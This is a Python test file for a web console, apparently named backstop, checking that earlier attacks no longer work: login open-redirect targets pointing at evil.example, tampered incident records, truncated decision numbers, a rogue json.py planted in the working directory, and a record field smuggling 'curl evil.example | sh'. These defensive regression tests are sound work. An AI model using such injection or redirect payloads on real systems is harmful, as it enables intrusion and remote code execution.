"""What was tried against the console and must not work again: see also test_door.py and test_runs.py."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest
from playwright.async_api import Page

import backstop
from backstop.clock import SystemClock
from backstop.console import recorded
from backstop.console.rights import RightsOf
from backstop.engine.memory import MemoryIncidents
from backstop.errors import RecordError, UsageError
from backstop.events import Event
from backstop.executor.process import Identity, executor
from backstop.policy import DEFAULT
from backstop.scenarios.frames import RUN
from backstop.scenarios.process import Child
from backstop.service import Access
from tests.console.recorded import laid
from tests.console.shown import shown
from tests.engine.incidents_contract import asking, reached
from tests.service.served import Broken

TOKEN = "token-of-the-service-0001"


class Hanging:
    """Incidents whose database never answers."""

    def __getattr__(self, name: str) -> object:
        async def hang(*_: object, **__: object) -> None:
            await asyncio.Event().wait()

        return hang


@pytest.mark.parametrize(
    "target", ["//[x", "/\\evil.example", "//evil.example", "/\t/evil.example", "https://evil.example", "/\u2028"]
)
async def test_signing_in_leads_to_no_other_site_whatever_is_asked_for(tmp_path: Path, target: str) -> None:
    async with shown(tmp_path) as console:
        asked = await console.get("/login", params={"next": target})
        assert asked.status == 200
        answer = await console.submit("/login", {"name": "Ada", "next": target})
        assert (answer.status, answer.headers["Location"]) == (303, "/")


@pytest.mark.parametrize("path", ["/policy", "/models"])
async def test_a_database_that_never_answers_leaves_counts_unknown_and_the_page_there(
    tmp_path: Path, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(recorded, "PATIENCE_SECONDS", 0.05)
    async with shown(tmp_path, incidents=Hanging()) as console:  # type: ignore[arg-type]
        pages = await asyncio.wait_for(asyncio.gather(console.get(path), console.get(path)), 30)
        assert {page.status for page in pages} == {200}
        assert all("unknown" in page.text for page in pages)


@pytest.mark.parametrize("path", ["/", "/policy", "/models", "/login"])
async def test_a_record_that_was_altered_takes_no_other_page_with_it(tmp_path: Path, path: str) -> None:
    async with shown(tmp_path, incidents=Broken(RecordError("event 3 was altered"))) as console:  # type: ignore[arg-type]
        assert (await console.get(path)).status == 200


async def test_a_bug_is_a_page_that_does_not_say_that_nothing_was_done(tmp_path: Path) -> None:
    class Bug:
        async def break_(self, fault: str) -> None:
            raise ValueError(fault)

        broken = monitor = None

    async with shown(tmp_path, grounds=Bug(), breaks={"it": "breaks it"}) as console:
        answer = await console.submit("/cluster/break", {"fault": "it"})
        assert answer.status == 500
        assert "Backstop itself failed" in answer.text
        assert "may not have been done" in answer.text
        assert answer.text.startswith("<!doctype html>")
        assert "ValueError" not in answer.text


async def test_whoever_is_not_signed_in_is_not_told_what_waits(tmp_path: Path) -> None:
    async with shown(tmp_path, Access(token=TOKEN), incidents=Broken(RecordError("asked"))) as console:  # type: ignore[arg-type]
        page = await console.get("/login")
        assert "does not answer" not in page.text
        assert (await console.get("/loginx")).status == 303


@dataclass
class Altered:
    """Those incidents, with another record of each."""

    incidents: MemoryIncidents
    change: Callable[[tuple[Event, ...]], tuple[Event, ...]]

    def __getattr__(self, name: str) -> object:
        return getattr(self.incidents, name)

    async def events(self, incident: str, after: int = 0) -> tuple[Event, ...]:
        return self.change(await self.incidents.events(incident, after))


CHANGES: dict[str, Callable[[tuple[Event, ...]], tuple[Event, ...]]] = {
    "one is gone": lambda events: (*events[:3], *events[4:]),
    "one is altered": lambda events: (events[0].model_copy(update={"at": events[0].at + timedelta(seconds=1)}), *events[1:]),
    "all are gone": lambda _: (),
}
CLOSED = CHANGES | {"the last is gone": lambda events: events[:-1]}


@pytest.mark.parametrize("change", CLOSED)
async def test_an_incident_whose_record_does_not_hold_is_shown_as_such(tmp_path: Path, change: str) -> None:
    async with shown(tmp_path / "a") as console:
        asked = await asking(console.there)
        assert asked.asks is not None
        await console.there.incidents.approve(asked.id, by="Ada", why="it is mine", decision=asked.asks.decision)
        await reached(console.there.incidents, asked.id, "closed")
        assert "does not hold" not in (await console.get(f"/incidents/{asked.id}")).text
        altered = Altered(console.there.incidents, CLOSED[change])
        async with shown(tmp_path / "b", incidents=altered) as other:  # type: ignore[arg-type]
            assert "Its record does not hold" in (await other.get(f"/incidents/{asked.id}")).text


@pytest.mark.parametrize("change", CHANGES)
async def test_nobody_is_asked_on_a_record_that_does_not_hold(tmp_path: Path, change: str) -> None:
    async with shown(tmp_path / "a") as console:
        asked = await asking(console.there)
        assert 'id="approve"' in (await console.get(f"/incidents/{asked.id}")).text
        altered = Altered(console.there.incidents, CHANGES[change])
        async with shown(tmp_path / "b", incidents=altered) as other:  # type: ignore[arg-type]
            page = (await other.get(f"/incidents/{asked.id}")).text
            assert 'id="approve"' not in page
            assert "cannot be answered here: its record does not hold" in page


@pytest.mark.parametrize("length", [0, 1, 8, 63])
async def test_a_part_of_a_decision_s_number_decides_nothing(tmp_path: Path, length: int) -> None:
    async with shown(tmp_path) as console:
        asked = await asking(console.there)
        assert asked.asks is not None
        fields = {"decision": asked.asks.decision[:length], "by": "Ada", "why": "yes"}
        assert (await console.submit(f"/incidents/{asked.id}/approve", fields)).status == 409
        assert await console.there.incidents.find(asked.id) == asked


async def test_no_process_of_ours_runs_what_lies_where_it_was_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """One of them holds the credentials that write."""
    (tmp_path / "json.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
    monkeypatch.chdir(tmp_path)
    child = await Child.start("the emulator", "backstop.emulator", "--until-stdin-closes", log=tmp_path / "log")
    try:
        await child.read(60)
    finally:
        await child.stop()
    asked = {"investigator": Identity(tmp_path / "no.kubeconfig", None)}
    rights = RightsOf(asked, DEFAULT, SystemClock(), lambda: None)
    (told,) = await rights.now()
    assert "no.kubeconfig" in told.trouble
    log = tmp_path / "complaints"
    with pytest.raises(UsageError, match="does not start"):
        async with executor(("--no-such-option",), log):
            pass
    assert not (tmp_path / "ran").exists()


def test_every_process_of_ours_is_started_so() -> None:
    started = [
        path for path in Path(backstop.__file__).parent.rglob("*.py") if 'sys.executable, "-m"' in path.read_text(encoding="utf-8")
    ]
    assert started == []


async def test_no_record_puts_a_command_of_its_own_where_one_is_to_be_copied(page: Page, tmp_path: Path) -> None:
    name = laid(tmp_path / "runs")
    record = tmp_path / "runs" / name / RUN
    lines = record.read_text().splitlines()
    last = json.loads(lines[-1])
    last["body"]["report"]["agents"]["backstop"]["receipt"] = "x; curl evil.example | sh; .json"
    record.write_text("".join(f"{line}\n" for line in (*lines[:-1], json.dumps(last))))
    async with shown(tmp_path) as console:
        await page.goto(f"{console.url}/run/{name}")
        await page.locator(".verdict").wait_for()
        assert "curl evil.example" not in await page.inner_text(".verdict")
        assert "no signed receipt" in await page.inner_text(".verdict")
